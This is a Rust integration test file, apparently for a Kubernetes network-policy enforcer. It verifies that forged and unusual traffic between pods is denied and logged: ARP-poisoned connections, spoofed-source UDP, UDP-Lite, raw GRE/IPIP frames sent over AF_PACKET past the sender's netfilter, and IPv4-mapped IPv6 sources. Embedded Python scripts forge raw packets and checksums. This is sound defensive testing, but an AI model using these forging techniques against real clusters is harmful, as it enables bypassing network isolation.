    let (_, friend_ip, friend_mac) = bed.pod(FRIEND);
    let (friend_ns, _, _) = bed.pod(FRIEND);
    let (spoofer_ns, spoofer_ip, _) = bed.pod(SPOOFER);
    let (_, vault_ip, vault_mac) = bed.pod(VAULT);
    assert!(
        text(&table.stdout).contains(&friend_mac),
        "{}",
        text(&table.stdout)
    );
    assert_eq!(bed.forged_udp(&spoofer_ip, "own"), Vec::<String>::new());
    // (a) The forged datagram never reaches the vault.
    assert_eq!(bed.forged_udp(&friend_ip, "forged"), Vec::<String>::new());
    // (b) Neither handshake completes: the poisoning and the forged packets are dropped at
    // the attacker's port, so the connection times out.
    let node = (NODE_IP, bed.node_mac());
    assert_eq!(
        bed.poisoned_connect(&friend_ip, (node.0, &node.1)),
        None,
        "as friend"
    );
    assert_eq!(
        bed.poisoned_connect(NODE_IP, (&vault_ip, &vault_mac)),
        None,
        "as the node"
    );
    // The real owners still get through: friend itself, and the node (kubelet's probes).
    assert_eq!(bed.connect_to_vault(&friend_ns).as_deref(), Some(VAULT));
    assert_eq!(bed.connect_to_vault(&bed.node()).as_deref(), Some(VAULT));
    // The attacker's own traffic passes the guard and meets the vault's policy as before.
    assert_eq!(bed.connect_to_vault(&spoofer_ns), None);
}

/// Waits up to argv[3] seconds for datagrams carrying the probe marker and prints `GOT <from>`
/// for each: argv[1] is `udplite` (a UDP-Lite socket on port argv[2]), `raw` (a raw IPv4 socket
/// for IP protocol argv[2]) or `udp6` (a dual-stack UDP socket on port argv[2]).
const RECEIVE: &str = r#"
import socket, sys, time
kind, arg, wait = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
if kind == "udplite":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    s.bind(("0.0.0.0", arg))
elif kind == "raw":
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, arg)
else:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.bind(("::", arg))
print("READY", flush=True)
end = time.time() + wait
while time.time() < end:
    s.settimeout(max(0.05, end - time.time()))
    try:
        d, a = s.recvfrom(4096)
    except socket.timeout:
        break
    if b"portcullis-probe" in d:
        print("GOT", a[0], flush=True)
print("DONE", flush=True)
"#;

/// Sends the probe three times: argv[1] `udplite` (to argv[2]:argv[3]), `raw` (an IPv4 packet of
/// IP protocol argv[3] to argv[2], through the sender's own netfilter), or `frame` (an IPv4
/// packet of protocol argv[3] from argv[4] to argv[2], in an Ethernet frame to MAC argv[5]
/// over AF_PACKET: the sender's netfilter never sees it), or `frame6` (a UDP/IPv6 datagram from
/// argv[4] to [argv[2]]:argv[3], to MAC argv[5], over AF_PACKET).
const SEND: &str = r#"
import socket, struct, sys, time
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff
def frame(mac, packet, ethertype):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    return lambda: s.send(bytes.fromhex(mac.replace(":", "")) + s.getsockname()[4] + ethertype + packet)
kind, dst, num = sys.argv[1], sys.argv[2], int(sys.argv[3])
probe = b"portcullis-probe\n"
if kind == "udplite":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    send = lambda: s.sendto(probe, (dst, num))
elif kind == "raw":
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, num)
    send = lambda: s.sendto(probe, (dst, 0))
elif kind == "frame":
    src, d = socket.inet_aton(sys.argv[4]), socket.inet_aton(dst)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(probe), 7, 0, 64, num, 0, src, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    send = frame(sys.argv[5], ip + probe, b"\x08\x00")
else:
    src, d = socket.inet_pton(socket.AF_INET6, sys.argv[4]), socket.inet_pton(socket.AF_INET6, dst)
    udp = struct.pack("!HHHH", 40000, num, 8 + len(probe), 0) + probe
    c = csum(src + d + struct.pack("!IxxxB", len(udp), 17) + udp) or 0xffff
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(udp), 17, 64, src, d)
    send = frame(sys.argv[5], ip6 + udp, b"\x86\xdd")
for _ in range(3):
    send()
    time.sleep(0.2)
print("SENT")
"#;

impl Bed {
    /// Starts [`RECEIVE`] in `pod` as root (raw sockets need it) or `uid`, and returns once its
    /// socket is open.
    fn receiver(&self, pod: &str, uid: Option<u32>, args: &[&str]) -> std::process::Child {
        use std::io::BufRead;
        let (netns, _) = self.pod(pod);
        let program = match uid {
            Some(uid) => format!(
                "import os, socket, sys, time\nos.setgroups([])\nos.setgid({uid})\nos.setuid({uid})\n{RECEIVE}"
            ),
            None => RECEIVE.to_string(),
        };
        let mut child = Command::new("ip")
            .args(["netns", "exec", &netns, "python3", "-c", &program])
            .args(args)
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("run python3");
        let mut first = String::new();
        let stdout = child.stdout.as_mut().expect("stdout");
        std::io::BufReader::new(stdout)
            .read_line(&mut first)
            .expect("receiver output");
        assert_eq!(first.trim(), "READY", "the receiver did not start in {pod}");
        child
    }

    /// Sends with [`SEND`] from `pod` while `receiver` listens; the sources it got the probe from.
    fn probe(
        &self,
        pod: &str,
        uid: Option<u32>,
        receiver: std::process::Child,
        args: &[&str],
    ) -> Vec<String> {
        let sent = self.python(pod, uid, SEND, args);
        assert!(
            text(&sent.stdout).contains("SENT"),
            "the probe was not sent from {pod}: {}",
            text(&sent.stderr)
        );
        let out = receiver.wait_with_output().expect("receiver");
        let stdout = text(&out.stdout);
        assert!(stdout.contains("DONE"), "the receiver failed: {stdout}");
        stdout
            .lines()
            .filter_map(|l| l.strip_prefix("GOT "))
            .map(str::to_string)
            .collect()
    }

    fn mac(&self, pod: &str) -> String {
        let mac = text(&self.sh(pod, &["cat", "/sys/class/net/eth0/address"]).stdout)
            .trim()
            .to_string();
        assert_eq!(mac.len(), 17, "no MAC for {pod}");
        mac
    }

    /// The pod's IPv6 link-local address (every pod of the testbed has one on eth0).
    /// The pod's IPv6 link-local address, once usable: the kernel drops what arrives for an
    /// address still in duplicate address detection (`tentative`), which made the control
    /// datagram of the v4-mapped case miss now and then.
    fn link_local(&self, pod: &str) -> String {
        let show = || {
            text(
                &self
                    .sh(
                        pod,
                        &[
                            "ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link",
                        ],
                    )
                    .stdout,
            )
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        let mut out = show();
        while out.contains("tentative") && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(100));
            out = show();
        }
        assert!(
            !out.contains("tentative"),
            "{pod}'s link-local address is still tentative after 10 s: {out}"
        );
        out.split_whitespace()
            .skip_while(|w| *w != "inet6")
            .nth(1)
            .and_then(|a| a.split('/').next())
            .unwrap_or_else(|| panic!("no IPv6 link-local address in {pod}: {out}"))
            .to_string()
    }

    /// Whether the pod's proxy wrote a `connection_denied` line for `protocol` from or to `peer`
    /// (an address, or `ip:port` to match the destination's port too).
    fn denied(&self, pod: &str, direction: &str, protocol: &str, peer: &str) -> bool {
        // The peer is the source of an ingress flow, the destination of an egress one.
        let side = if direction == "ingress" { "src" } else { "dst" };
        let (ip, port) = match peer.parse::<std::net::SocketAddr>() {
            Ok(a) => (a.ip().to_string(), Some(a.port())),
            Err(_) => (peer.to_string(), None),
        };
        denied_lines(&self.proxy_log(pod)).iter().any(|l| {
            l["direction"] == direction
                && l["protocol"] == protocol
                && l[format!("{side}_ip")] == ip.as_str()
                && port.is_none_or(|p| l["dst_port"] == p)
        })
    }
}

/// Issue 20 §1: UDP-Lite (IP protocol 136) is an ordinary socket any UID opens, and before the
/// fix only TCP, UDP and SCTP were queued: two deny-all directions exchanged it as UID 1000 with
/// no capability. Now it is judged both ways as a port-less flow (NetworkPolicy cannot name
/// UDP-Lite): denied where the direction is isolated unless a rule without `ports` matches.
#[test]
fn udp_lite_is_judged_both_ways_as_an_unprivileged_uid() {
    let bed = Bed::up("ul");
    let (_, attacker_ip) = bed.pod(ATTACKER);
    let (_, relay_ip) = bed.pod(RELAY);
    let (_, target_ip) = bed.pod(TARGET);
    let (attacker, relay, target) = (
        attacker_ip.to_string(),
        relay_ip.to_string(),
        target_ip.to_string(),
    );

    // Egress: the attacker (egress denied) to the relay (ingress open).
    let rx = bed.receiver(RELAY, Some(1000), &["udplite", "9000", "2"]);
    let got = bed.probe(ATTACKER, Some(1000), rx, &["udplite", &relay, "9000"]);
    assert!(
        got.is_empty(),
        "UDP-Lite left a pod whose egress is denied: {got:?}"
    );
    assert!(
        bed.denied(ATTACKER, "egress", "UDPLITE", &format!("{relay}:9000")),
        "no connection_denied line for UDP-Lite in the attacker's log:\n{}",
        bed.proxy_log(ATTACKER)
    );

    // Ingress: the target (egress open) to the attacker (ingress denied). Conntrack checks
    // UDP-Lite checksums on the way in and, over veth, finds them bad: the datagram is
    // `INVALID` and dropped before the queue (fail closed, no audit line).
    let rx = bed.receiver(ATTACKER, Some(1000), &["udplite", "9000", "2"]);
    let got = bed.probe(TARGET, Some(1000), rx, &["udplite", &attacker, "9000"]);
    assert!(
        got.is_empty(),
        "UDP-Lite reached a pod whose ingress is denied: {got:?}"
    );
    // With `net.netfilter.nf_conntrack_checksum=0` in the receivers' namespaces it is `NEW`, and
    // the queue judges it: denied with an audit line, or allowed by a port-less rule.
    for pod in [ATTACKER, TARGET] {
        let set = bed.sh(
            pod,
            &["sysctl", "-qw", "net.netfilter.nf_conntrack_checksum=0"],
        );
        assert!(set.status.success(), "{}", text(&set.stderr));
    }
    let rx = bed.receiver(ATTACKER, Some(1000), &["udplite", "9001", "2"]);
    let got = bed.probe(TARGET, Some(1000), rx, &["udplite", &attacker, "9001"]);
    assert!(
        got.is_empty(),
        "UDP-Lite reached a pod whose ingress is denied: {got:?}"
    );
    assert!(
        bed.denied(ATTACKER, "ingress", "UDPLITE", &target),
        "no ingress connection_denied line for UDP-Lite:\n{}",
        bed.proxy_log(ATTACKER)
    );

    // Allowed: the target's ingress rule from namespace mid has no `ports`, so it admits the
    // relay's UDP-Lite.
    let rx = bed.receiver(TARGET, Some(1000), &["udplite", "9000", "3"]);
    let got = bed.probe(RELAY, Some(1000), rx, &["udplite", &target, "9000"]);
    assert!(
        got.contains(&relay),
        "a port-less rule must admit UDP-Lite: {got:?}"
    );
}

/// Issue 20 §1: with NET_RAW, GRE (47), IPIP (4) and protocol 253 reached an isolated pod's raw
/// socket. Now every IP protocol but ICMP is judged in the queue: the target's ingress (only
/// namespace mid) refuses the attacker's frames, sent over AF_PACKET so that the attacker's own
/// egress rules never see them; the attacker's egress refuses its raw IP packets to the open
/// relay; and the relay, which the target's port-less rule admits, still gets through.
#[test]
fn other_ip_protocols_are_judged_both_ways_with_net_raw() {
    let bed = Bed::up("ip");
    let (_, attacker_ip) = bed.pod(ATTACKER);
    let (_, relay_ip) = bed.pod(RELAY);
    let (_, target_ip) = bed.pod(TARGET);
    let (attacker, relay, target) = (
        attacker_ip.to_string(),
        relay_ip.to_string(),
        target_ip.to_string(),
    );
    let target_mac = bed.mac(TARGET);
    for (proto, name) in [("47", "GRE"), ("4", "IPIP"), ("253", "IP-PROTO-253")] {
        let rx = bed.receiver(TARGET, None, &["raw", proto, "2"]);
        let got = bed.probe(
            ATTACKER,
            None,
            rx,
            &["frame", &target, proto, &attacker, &target_mac],
        );
        assert!(
            got.is_empty(),
            "protocol {proto} reached the isolated target: {got:?}"
        );
        assert!(
            bed.denied(TARGET, "ingress", name, &attacker),
            "no connection_denied line naming {name} in the target's log:\n{}",
            bed.proxy_log(TARGET)
        );

        let rx = bed.receiver(RELAY, None, &["raw", proto, "2"]);
        let got = bed.probe(ATTACKER, None, rx, &["raw", &relay, proto]);
        assert!(
            got.is_empty(),
            "protocol {proto} left the attacker, whose egress is denied: {got:?}"
        );
        assert!(
            bed.denied(ATTACKER, "egress", name, &relay),
            "no egress connection_denied line naming {name}:\n{}",
            bed.proxy_log(ATTACKER)
        );

        let rx = bed.receiver(TARGET, None, &["raw", proto, "3"]);
        let got = bed.probe(RELAY, None, rx, &["raw", &target, proto]);
        assert!(
            got.contains(&relay),
            "the target's port-less rule must admit protocol {proto} from the relay: {got:?}"
        );
    }
}

/// Issue 20 §2: an IPv6 datagram whose source is IPv4-mapped (`::ffff:127.0.0.1`,
/// `::ffff:<relay>`) was judged as that IPv4 address ("self", or the relay the target admits)
/// and delivered to the target's dual-stack socket on a port nothing opens, with no audit line.
/// Now such sources are dropped before any verdict (raw PREROUTING, and the queue's parser).
/// The pods' link-local addresses carry it: the same frame from a genuine source still reaches
/// the relay, which is not isolated.
#[test]
fn an_ipv4_mapped_ipv6_source_is_dropped_not_judged_as_ipv4() {
    let bed = Bed::up("v4m");
    let (_, relay_ip) = bed.pod(RELAY);
    let attacker_ll = bed.link_local(ATTACKER);
    let (target_ll, target_mac) = (bed.link_local(TARGET), bed.mac(TARGET));
    let (relay_ll, relay_mac) = (bed.link_local(RELAY), bed.mac(RELAY));

    // Control: the frame is well formed (a genuine source reaches the open relay).
    let rx = bed.receiver(RELAY, None, &["udp6", "7000", "2"]);
    let got = bed.probe(
        ATTACKER,
        None,
        rx,
        &["frame6", &relay_ll, "7000", &attacker_ll, &relay_mac],
    );
    assert!(
        got.contains(&attacker_ll),
        "the control datagram did not arrive: {got:?}"
    );

    for source in ["::ffff:127.0.0.1".to_string(), format!("::ffff:{relay_ip}")] {
        let rx = bed.receiver(TARGET, None, &["udp6", "7000", "2"]);
        let got = bed.probe(
            ATTACKER,
            None,
            rx,
            &["frame6", &target_ll, "7000", &source, &target_mac],
        );
        assert!(
            got.is_empty(),
            "a datagram from {source} reached the isolated target: {got:?}"
        );
        // Never legitimate on a wire: dropped even where nothing is isolated.
        let rx = bed.receiver(RELAY, None, &["udp6", "7000", "2"]);
        let got = bed.probe(
            ATTACKER,
            None,
            rx,
            &["frame6", &relay_ll, "7000", &source, &relay_mac],
        );
        assert!(
            got.is_empty(),
            "a datagram from {source} reached the relay: {got:?}"
        );
    }
}
